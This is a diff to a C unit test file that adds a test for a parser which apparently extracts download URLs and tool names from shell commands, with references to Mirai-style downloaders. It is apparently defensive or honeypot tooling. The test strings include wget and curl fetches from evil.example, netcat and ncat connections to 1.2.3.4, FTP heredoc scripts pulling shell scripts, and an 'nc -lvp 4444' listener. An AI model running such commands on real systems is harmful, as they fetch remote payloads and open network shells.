@@ -186,6 +186,22 @@ static void test_nc(void **state)
     expect_none("nc -lvp 4444");
 }
 
+/* Every command word the shell pass acts on, in the case it accepts. */
+static void test_every_command_word(void **state)
+{
+    (void)state;
+    expect1("readonly H=evil.example; wget http://$H/r", "http://evil.example/r", "wget", "plain");
+    expect1("declare H=evil.example; curl -O http://$H/d", "http://evil.example/d", "curl", "plain");
+    expect1("local H=evil.example\nwget http://$H/l", "http://evil.example/l", "wget", "plain");
+    expect1("netcat 1.2.3.4 81 > /tmp/n", "tcp://1.2.3.4:81", "nc", "plain");
+    expect1("ncat 1.2.3.4 82 > /tmp/n", "tcp://1.2.3.4:82", "nc", "plain");
+    expect1("ftp -n <<EOF\nOPEN 1.2.3.4\nUSER u p\nMGET a.sh\nbye\nEOF", "ftp://u:p@1.2.3.4/a.sh", "ftp-script",
+            "plain");
+    expect1("ftp -n <<EOF\nOpen 1.2.3.4\nrecv b.sh\nbye\nEOF", "ftp://1.2.3.4/b.sh", "ftp-script", "plain");
+    /* Case counts for shell commands: WGET is not wget. */
+    expect_none("WGET 1.2.3.4/x");
+}
+
 static void test_mirai_wget_g(void **state)
 {
     (void)state;
@@ -522,7 +538,7 @@ int main(void)
         cmocka_unit_test(test_wget),
         cmocka_unit_test(test_curl),
         cmocka_unit_test(test_tftp),
-        cmocka_unit_test(test_ftpget),
+        cmocka_unit_test(test_ftpget), cmocka_unit_test(test_every_command_word),
         cmocka_unit_test(test_ftp_script),
         cmocka_unit_test(test_nc),
         cmocka_unit_test(test_mirai_wget_g),
